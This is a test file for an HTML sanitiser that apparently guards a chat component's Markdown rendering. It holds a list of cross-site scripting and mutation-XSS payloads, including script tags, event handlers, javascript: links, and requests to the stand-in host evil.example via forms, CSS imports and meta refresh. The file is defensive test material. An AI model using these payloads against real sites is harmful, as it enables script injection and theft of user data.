import { expect } from '@open-wc/testing';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from './allowed-markup.js';
import { createSanitizer, loadSanitizer } from './sanitize.js';

/** HTML that never gets this far, because Markdown's own is escaped: each layer has to hold alone. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \tjava\nscript:alert(1)" id=a name=b style="color:red" onclick="alert(1)">x</a>',
  '<p style="background:url(//evil.example)">x</p>',
  '<style>@import "//evil.example"</style>',
  '<link rel=preload href="//evil.example">',
  '<form action="//evil.example"><input name=password><button>x</button></form>',
  '<input type=text autofocus onfocus=alert(1)>',
  '<input type=image src="//evil.example">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="//evil.example"></object><embed src="//evil.example">',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video poster="//evil.example"><source src="//evil.example"></video>',
  '<table background="//evil.example"><td background="//evil.example">x</td></table>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<aisle-chat gateway="//evil.example"></aisle-chat><p slot=a part=b class=c data-x=y aria-label=z>x</p>',
  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
];

for (const choice of ['native', 'dompurify'] as const) {
  describe(`the sanitiser (${choice})`, () => {
    before(() => loadSanitizer(choice));

    for (const html of hostile) {
      it(`leaves nothing of ${html.slice(0, 60)} but what Markdown can say`, () => {
        const sanitize = createSanitizer();
        if (!sanitize) throw new Error('there is no sanitiser');
        for (const element of sanitize(html).querySelectorAll('*')) {
          expect(ALLOWED_TAGS).to.include(element.localName);
          expect(element.namespaceURI).to.equal('http://www.w3.org/1999/xhtml');
          for (const { name } of element.attributes) expect(ALLOWED_ATTRIBUTES).to.include(name);
          expect(element.getAttribute('href') ?? '').not.to.match(/script/i);
          if (element.localName === 'input') expect(element.hasAttribute('disabled')).to.equal(true);
        }
      });
    }

    it('keeps what Markdown says', () => {
      const html =
        '<h3>a</h3><p><strong>b</strong> <em>c</em> <a href="https://shop.example/">d</a></p>' +
        '<ul><li><input checked="" disabled="" type="checkbox"> e</li></ul><ol start="3"><li>f</li></ol>' +
        '<table><thead><tr><th align="right">g</th></tr></thead></table><pre><code>h</code></pre>';
      const box = document.createElement('div');
      const fragment = createSanitizer()?.(html);
      if (fragment) box.append(fragment);
      expect(
        box.querySelectorAll('h3, strong, em, a[href], input:disabled, ol[start="3"], th[align], pre code').length,
      ).to.equal(8);
      expect(box.textContent).to.equal('ab c d efgh');
    });
  });
}
